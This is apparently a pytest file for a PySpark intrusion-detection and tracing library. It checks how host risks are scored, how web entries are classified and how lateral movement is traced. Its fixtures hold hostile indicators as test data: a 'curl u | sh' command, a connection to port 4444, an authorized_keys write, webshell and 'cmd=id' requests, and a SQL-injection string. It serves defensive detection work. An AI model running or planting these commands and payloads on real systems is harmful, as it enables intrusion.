"""The plans on small evidence, expected values derived by hand."""
from pyspark.sql import functions as F

from huntspark.operators import entries as E, lateral as L
from huntspark.plans import host_risk as H, trace as TR

SEC = 1_000_000


def test_items_of_one_listener_merge_by_its_process_first(spark):
    rows = [("exec", "h", "e1", "7", 80, "P1", "a"), ("exec", "h", "e1", "7", 443, "P0", "b"), ("exec", "h", "e1", "8", 80, "P1", "c"), ("exec", "h", "e1", "0", 80, "P2", "d"), ("exec", "h", "e1", None, 80, "P1", "e")]
    df = spark.createDataFrame(rows, "module string, host string, evidence_ref string, listener_pid string, listener_port int, severity string, rule string")
    items = H.as_items(df.withColumns({"matched_rules": F.array("rule"), "risk_id": F.col("rule"), "us": F.lit(1), "confidence": F.lit(0.5)}), "exec")
    got = {(r.listener_pid, r.severity, tuple(sorted(r.matched_rules))) for r in H.assess([items]).collect()}
    assert got == {("7", "P0", ("a", "b")), ("8", "P1", ("c",)), (None, "P1", ("d", "e"))}


def test_all_modules_make_items(spark):
    base = "evidence_id string, us bigint, host string"
    exec_ = spark.createDataFrame([("x1", 10 * SEC, "h", ["h"], None, "curl u | sh", "nginx", 80)], base + ", hosts array<string>, listener string, command string, listener_process string, listener_port int")
    conn = spark.createDataFrame([("c1", 11 * SEC, "h", ["h"], None, "8.8.8.8", 4444, "x", 22)], base + ", hosts array<string>, listener string, dst_ip string, dst_port int, listener_process string, listener_port int")
    pers = spark.createDataFrame([("p1", 12 * SEC, "h", "/root/.ssh/authorized_keys", "created")], base + ", path string, event_type string")
    sysl = spark.createDataFrame([("s1", 13 * SEC, "h", "auditd exiting", "x"), ("s2", 13 * SEC, "h", "fine", "x")], base + ", message string, event_type string")
    dns = spark.createDataFrame([("d1", 14 * SEC, "h", "a." * 50 + "com", "A")], base + ", query string, query_type string")
    got = {(r.risk_module, r.evidence_ref, r.severity) for r in H.host_risk({"host_exec": exec_, "host_connect": conn, "host_persistence": pers.withColumns({"hosts": F.array("host"), "listener": F.lit(None).cast("string")}), "syslog_risk_alert": sysl, "dns_log": dns}).collect()}
    assert got == {("exec", "x1", "P0"), ("connect", "c1", "P1"), ("persistence", "p1", "P0"), ("syslog", "s1", "P0"), ("dns", "d1", "P1")}


WEB = "evidence_id string, us bigint, host string, url string, action string, status int"


def test_a_working_exploit_beats_an_earlier_control_page(spark):
    web = spark.createDataFrame([("w1", 1, "h", "/up/shell.php", "", 200), ("w2", 2, "h", "/x?cmd=id", "block", None), ("w3", 3, "h", "/x?cmd=id", "", 200), ("w4", 4, "h", "/a?u=1' or '1'='1", "", 200), ("w5", 5, "g", "/up/shell.php", "", 200), ("w6", 1, "k", "/a.php", "", None)], WEB)
    got = {r.host: r for r in E.web_entries(web, ["host"], ["shell.php", "php"]).collect()}
    assert (got["h"].evidence_id, got["h"].role, got["h"].first_point_status, got["h"].control_ref, got["h"].control_url) == ("w3", "compromise_trigger", "supported", "w1", "/up/shell.php")
    assert (got["g"].role, got["g"].first_point_status) == ("observed_control_point", "unresolved") and got["k"].vector == "web_exploit" and got["k"].control_ref is None
    late = {r.host: r.evidence_id for r in E.web_entries(web, ["host"], [], start_us=4).collect()}
    assert late == {"h": "w4", "g": "w5"}


def test_commands_stand_in_where_no_request_was_logged(spark):
    web = spark.createDataFrame([("w1", 9, "h", "/x", "", None)], WEB)
    ex = spark.createDataFrame([("e1", 1, "h", "id", True), ("e2", 5, "g", "cat uploads/s.phtml", True), ("e3", 4, "g", "id", False), ("e4", 6, "g", "id", True), ("e5", None, "f", "id", True)], "evidence_id string, us bigint, host string, command string, web boolean")
    got = {(r.host, r.evidence_id, r.vector, r.source) for r in E.initial_access(web, ex, ["host"], [], F.col("web")).collect()}
    assert got == {("h", "w1", "web_exploit", "web"), ("g", "e2", "webshell", "exec")}


def test_execution_has_lookback_and_end(spark):
    ex = spark.createDataFrame([(i, "h", i * SEC) for i in (10, 699, 700, 1000, 2000, 2001)], "evidence_id int, host string, us bigint")
    none = ex.limit(0)
    got = L.execution_chain(ex, ex, none, none, connect_sec=1, anchor_us=1000 * SEC, lookback_sec=300, end_us=2000 * SEC)
    assert {r.evidence_id: (r.connects, r.confidence) for r in got.collect()} == {700: (2, 0.95), 1000: (1, 0.93), 2000: (2, 0.95)}


def test_trace_keeps_to_the_investigation(spark):
    rows = lambda *r: spark.createDataFrame([(f"{i}{h}", h, t * SEC) for i, h, t in r] or [("x", "x", 0)], "evidence_id string, host string, us bigint").where("host <> 'x'")
    tables = {"web_access_log": rows(("w", "a", 100)), "host_exec": rows(("e", "a", 110), ("f", "a", 900), ("o", "b", 5)), "host_connect": rows(), "host_file_op": rows(), "host_persistence": rows()}
    logins = spark.createDataFrame([("a", "b", 120 * SEC, "l1", "accepted"), ("a", "c", 20 * SEC, "l2", "accepted"), ("a", "d", 800 * SEC, "l3", "accepted")], "src string, dst string, us bigint, evidence_id string, result string")
    spec = {"j": TR.J.JoinSpec("j", "web_access_log", "host_exec", [TR.J.Key("host", "host")], before_sec=60, after_sec=60)}
    t = TR.trace_intrusion(tables, spec, ["j"], {"j": "execution"}, logins, None, [], 100 * SEC, end_us=500 * SEC, lookback_sec=30)
    assert {r.dst for r in t.edges.collect()} == {"b"}
    assert {r.host: r.verdict for r in t.verdict.collect()} == {"a": "confirmed_intrusion_chain", "b": "insufficient_evidence"}
    gated = TR.trace_intrusion(tables, spec, ["j"], {"j": "execution"}, logins, None, [], 100 * SEC, end_us=500 * SEC, lookback_sec=30, blocked_hosts=tables["web_access_log"])
    assert {r.host: r.verdict for r in gated.verdict.collect()}["a"] == "insufficient_evidence"
